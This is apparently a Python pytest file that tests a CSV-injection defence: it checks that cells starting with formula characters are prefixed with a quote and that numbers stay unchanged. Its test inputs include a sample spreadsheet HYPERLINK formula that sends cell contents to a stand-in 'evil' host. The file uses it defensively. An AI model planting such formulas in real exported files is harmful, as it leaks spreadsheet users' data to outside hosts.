"""CSV cells a spreadsheet shows as text (OWASP CSV injection), numbers left alone."""

import csv
import io

import pytest

from app.services.platform.spreadsheets import SafeCsvWriter, safe_cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),  # a negative number stays a number
        ("+3", "+3"),
        ("Anna = captain", "Anna = captain"),  # only the first character matters
        ("", ""),
        (-3, -3),
        (1.25, 1.25),
        (None, None),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_the_writer_neutralises_every_cell_and_keeps_csv_quoting() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(["name", "load"])
    writer.writerow(['=HYPERLINK("http://evil/?"&A1,"x")', 300])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "load"], ['\'=HYPERLINK("http://evil/?"&A1,"x")', "300"]]
